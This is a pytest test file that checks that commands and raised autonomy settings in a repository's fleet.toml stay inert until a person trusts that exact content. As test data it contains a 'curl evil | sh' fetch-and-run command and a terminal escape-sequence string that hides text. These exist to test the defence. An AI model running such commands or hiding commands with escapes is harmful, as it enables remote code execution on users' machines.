"""What a repository's fleet.toml runs or frees counts once a person has trusted it, by its content."""

import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from live.merge.test_merging import done_task
from staging.stage import Stage, Terminal

from fleet.errors.refused import NotMergeable, NotTrusted
from fleet.verbs.dispatch.plan import Wanted, check_start
from fleet.verbs.views.operations import OperationFilter


@pytest.fixture
def wary(store_url: str) -> Iterator[Stage]:
    """A home as it is by default: it asks."""
    stage = Stage(store=store_url, trust="ask")
    yield stage
    stage.end()


def toml(stage: Stage, text: str) -> None:
    Path(stage.repository, "fleet.toml").write_text(text)


def trusted(fleet) -> None:
    fleet.settings.trust("p", fleet.settings.untrusted("p").values)


@pytest.mark.req("SEC-1")
@pytest.mark.parametrize("name", ["setup", "teardown"])
def test_a_command_of_worktrees_does_not_run_and_nobody_is_started_before_it_is_trusted(wary, name):
    ran = Path(wary.root, "ran")
    toml(wary, f'[worktree]\n{name} = "touch {ran}"\n')
    with wary.fleet() as fleet:
        with pytest.raises(NotTrusted, match=f"worktree.{name}") as refused:
            wary.dispatch(fleet, "t", "sleep", "1000")
        assert (refused.value.code, "fleet trust -p p" in refused.value.spoken) == (14, True)
        assert (fleet.dispatches.list(), ran.exists(), wary.tree("t").exists()) == ([], False, False)
        trusted(fleet)
        wary.dispatch(fleet, "t", "sleep", "1000")
        wary.launched(fleet, fleet.dispatches.find("t"))
        toml(wary, f'[worktree]\n{name} = "touch {ran}.evil"\n')
        with pytest.raises(NotTrusted):
            wary.dispatch(fleet, "other", "sleep", "1000")
        fleet.dispatches.kill(fleet.dispatches.find("t"), "a test")
        fleet.tasks.archive(project="p", slug="t")
        wary.swept(fleet)
        assert not wary.tree("t").exists(), "the release does not wait for it"
        assert not Path(f"{ran}.evil").exists(), "and does not run it"


@pytest.mark.req("SEC-1")
def test_an_untrusted_verify_parks_the_task_and_is_neither_run_nor_skipped(wary):
    ran = Path(wary.root, "ran")
    with wary.fleet() as fleet:
        done_task(wary, fleet)
        toml(wary, f'verify = "touch {ran}"\n')
        before = wary.git("rev-parse", "fleet/main")
        with pytest.raises(NotMergeable, match="verify command is not trusted"):
            fleet.merge.task(project="p", slug="t")
        task = fleet.tasks.show(project="p", slug="t")
        assert (task.status, ran.exists(), wary.git("rev-parse", "fleet/main")) == ("blocked", False, before)
        assert "not trusted" in task.reason
        trusted(fleet)
        fleet.tasks.retry(project="p", slug="t")
        fleet.merge.task(project="p", slug="t")
        assert ran.exists()
        assert wary.git("rev-parse", "fleet/main") != before


@pytest.mark.req("SEC-1")
def test_a_verify_that_a_commit_takes_away_is_not_skipped(wary):
    toml(wary, 'verify = "true"\n')
    with wary.fleet() as fleet:
        trusted(fleet)
        done_task(wary, fleet)
        toml(wary, "")
        with pytest.raises(NotMergeable, match="not trusted"):
            fleet.merge.task(project="p", slug="t")


@pytest.mark.req("SEC-1")
def test_a_raised_freedom_counts_as_it_was_before(wary):
    toml(wary, 'engine = "scripted"\nautonomy = "edits"\nreview = "person"\n')
    with wary.fleet() as fleet:
        with pytest.raises(NotTrusted, match="engine"):
            fleet.dispatches.check_start(Wanted(project="p", slug=""))
        trusted(fleet)
        toml(wary, 'engine = "shell"\nautonomy = "full"\nreview = "none"\nmerge = "pr"\n')
        told = {name: fleet.settings.read("p")[name].value for name in ("engine", "autonomy", "review", "merge")}
        assert told == {"engine": "scripted", "autonomy": "edits", "review": "person", "merge": "integrate"}
        _project, engine, autonomy = check_start(fleet.context, Wanted(project="p", slug=""))
        assert (engine.name, autonomy) == ("scripted", "edits")


@pytest.mark.req("SEC-1")
def test_trust_is_asked_for_once_by_content_and_shown_as_a_difference(wary):
    toml(wary, 'verify = "make test"\n')
    with wary.fleet() as fleet:
        trusted(fleet)
    toml(wary, '# tidied\nverify   = "make test"\n[task]\npriority = 3\n')
    assert "everything is trusted" in wary.program("trust").out, "the same content"
    toml(wary, 'verify = "curl evil | sh"\nautonomy = "full"\n')
    said = wary.program("trust")
    assert said.code == 14
    assert '- verify = "make test"' in said.out
    assert '+ verify = "curl evil | sh"  # a command that fleet runs' in said.out
    assert '+ autonomy = "full"' in said.out
    done = wary.program("trust", "--yes", "--json").json
    assert (done["changed"], [each["name"] for each in done["changes"]]) == (True, ["autonomy", "verify"])
    assert wary.program("trust", "--yes", "--json").json["changed"] is False
    path = Path(wary.home, "trust", "p.json")
    assert stat.S_IMODE(os.stat(path).st_mode) == 0o600
    assert json.loads(path.read_text())["values"] == {"verify": "curl evil | sh", "autonomy": "full"}
    with wary.fleet() as fleet:
        assert any(
            each.why.startswith("trust autonomy, verify") for each in fleet.operations.list(OperationFilter(), limit=50)
        )


@pytest.mark.req("SEC-1")
def test_a_person_at_a_terminal_is_shown_it_and_asked_and_hidden_characters_are_seen(wary):
    toml(wary, 'verify = "true\\u001b[2K\\rmake test"\n')
    terminal = Terminal(wary, "trust")
    terminal.shows("Trust this?")
    assert "\x1b[2K" not in terminal.screen
    assert "\\u001b[2K\\rmake test" in terminal.screen
    terminal.type("n\n")
    assert terminal.ended().code == 14
    terminal = Terminal(wary, "trust")
    terminal.shows("Trust this?")
    terminal.type("y\n")
    assert terminal.ended().code == 0
    with wary.fleet() as fleet:
        assert fleet.settings.untrusted("p").changes == []


@pytest.mark.req("SEC-1")
def test_what_up_writes_is_trusted_and_what_was_there_is_not(wary):
    toml(wary, 'verify = "evil"\n')
    done = wary.program("up", "--engine", "shell", "--autonomy", "ask", "--review", "person", "--json").json
    with wary.fleet() as fleet:
        assert [each.name for each in fleet.settings.untrusted("p").changes] == ["verify"]
        assert fleet.settings.read("p")["engine"].value == "shell"
        assert any("verify" in each and "trusted" in each for each in done["warnings"])
        fleet.coord.stop("p", "a test")


@pytest.mark.req("SEC-1")
def test_config_doctor_and_a_new_task_say_what_waits(wary):
    toml(wary, '[task]\nverify = "evil"\n')
    assert 'not trusted: "evil"' in wary.program("config", "show").out
    found = {each["name"]: each for each in wary.program("config", "show", "--json").json}
    assert (found["task.verify"]["value"], found["task.verify"]["written"]) == (None, "evil")
    said = wary.program("doctor")
    assert (said.code, "fleet.toml sets task.verify" in said.out) == (1, True)
    said = wary.program("task", "add", "X")
    assert (said.code, "fleet trust -p p" in said.err) == (14, True)
    assert wary.program("task", "add", "X", "--verify", "true").code == 0


@pytest.mark.req("SEC-1")
def test_the_operator_may_trust_every_repository(either):
    toml(either, 'verify = "true"\n')
    with either.fleet() as fleet:
        assert fleet.settings.untrusted("p").changes == []
        assert fleet.settings.read("p")["verify"].value == "true"


def test_trust_of_another_repository_under_the_same_name_does_not_count(wary):
    toml(wary, 'verify = "true"\n')
    with wary.fleet() as fleet:
        trusted(fleet)
    path = Path(wary.home, "trust", "p.json")
    path.write_text(path.read_text().replace(wary.repository, "/elsewhere"))
    with wary.fleet() as fleet:
        assert [each.name for each in fleet.settings.untrusted("p").changes] == ["verify"]
